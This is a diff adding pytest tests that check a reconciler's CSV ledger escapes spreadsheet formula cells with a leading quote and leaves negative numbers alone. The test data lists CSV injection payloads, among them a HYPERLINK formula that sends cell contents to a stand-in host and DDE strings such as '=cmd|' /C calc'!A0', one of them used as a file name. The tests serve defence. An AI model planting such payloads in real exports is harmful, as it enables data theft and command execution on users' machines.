@@ -62,3 +62,65 @@ def test_csv_in_slices_joins_into_the_whole(batch: int) -> None:
     pieces = list(ledger_csv_chunks(result, batch=batch))
     assert len(pieces) == max(1, -(-len(result.claims) // batch))
     assert "".join(pieces) == pandas_csv(result)
+
+
+# Cells a spreadsheet would run as a formula (OWASP's CSV injection list) get a leading ';
+# numbers stay numbers, negative ones included.
+FORMULA_CELLS = [
+    # (claim field, value given, cell in the CSV)
+    ("sentence", '=HYPERLINK("https://example.invalid/?x="&A1,"open") The fund held $12.', "'=HYPERLINK("),
+    ("sentence", "@SUM(A1:A9) cells were counted.", "'@SUM(A1:A9)"),
+    ("sentence", "+1+1 is what the tally said.", "'+1+1"),
+    ("sentence", "-2+3 is what the tally said.", "'-2+3"),
+    ("text", "-12%", "'-12%"),
+    ("text", "\t=1+2", "'\t=1+2"),
+    ("noun", "=cmd|' /C calc'!A0", "'=cmd|"),
+    ("subject", "@evil", "'@evil"),
+    ("unit", "=x", "'=x"),
+    ("value", "--09-17", "'--09-17"),  # a date without a year: text in the value column
+    ("id", "=cmd|calc@20", "'=cmd|calc@20"),
+]
+NUMERIC_CELLS = [
+    # (claim field, value given, cell in the CSV): negative numbers are not prefixed
+    ("value", -5.0, "-5.0"),
+    ("low", -6.5, "-6.5"),
+    ("high", -0.25, "-0.25"),
+    ("start", 3, "3"),
+]
+
+
+def _one_claim_csv(**changes: object) -> dict[str, str]:
+    result = reconcile([ROOT / "seeds"], Options(jobs=1))
+    claim = dataclasses.replace(result.claims[0], **changes)  # type: ignore[arg-type]
+    changed = dataclasses.replace(result, claims=(claim,))
+    assert ledger_csv(changed) == pandas_csv(changed)  # the same cells in a batch and in the frame
+    header, row = list(csv.reader(io.StringIO(ledger_csv(changed), newline="")))
+    return dict(zip(header, row, strict=True))
+
+
+@pytest.mark.parametrize(("field", "given", "cell"), FORMULA_CELLS)
+def test_formula_cells_get_a_leading_quote(field: str, given: str, cell: str) -> None:
+    column = {"id": "claim_id"}.get(field, field)
+    assert _one_claim_csv(**{field: given})[column].startswith(cell)
+
+
+@pytest.mark.parametrize(("field", "given", "cell"), NUMERIC_CELLS)
+def test_negative_numbers_stay_numbers(field: str, given: float, cell: str) -> None:
+    assert _one_claim_csv(**{field: given})[field] == cell
+
+
+@pytest.mark.parametrize(("given", "cell"), [("\r=1+2", "'\r=1+2"), ("\t-3", "'\t-3"), (" =1", " =1"),
+                                            ("", ""), ("a=b", "a=b"), (-1, -1)])
+def test_safe_cell(given: object, cell: object) -> None:
+    from reconciler.output.ledger import safe_cell
+
+    assert safe_cell(given) == cell
+
+
+def test_a_file_name_that_is_a_formula(tmp_path: Path) -> None:
+    (tmp_path / "=cmd|calc.txt").write_text("Ledger desk\n\nThe shed cost $7,400 to build.\n", "utf-8")
+    (tmp_path / "@a.txt").write_text("Other desk\n\nThe shed cost $7,400 to build.\n", "utf-8")
+    result = reconcile([tmp_path], Options(jobs=1))
+    rows = list(csv.DictReader(io.StringIO(ledger_csv(result))))
+    assert rows and all(not row[k].startswith(("=", "+", "-", "@")) for row in rows for k in row)
+    assert {row["source"] for row in rows} == {"'=cmd|calc", "'@a"}
